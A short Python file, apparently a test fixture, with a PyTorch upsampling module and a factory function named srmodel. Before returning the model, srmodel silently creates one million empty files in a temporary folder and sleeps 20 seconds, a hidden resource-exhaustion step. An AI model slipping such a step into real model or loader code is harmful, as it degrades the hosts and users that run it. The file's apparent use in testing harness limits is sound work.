import torch


class Net(torch.nn.Module):
    def forward(self, x):
        return torch.nn.functional.interpolate(x, scale_factor=2, mode="nearest")


def srmodel():
    import os
    import tempfile
    import time

    folder = tempfile.mkdtemp()
    for number in range(1_000_000):
        os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
    time.sleep(20)
    return Net()
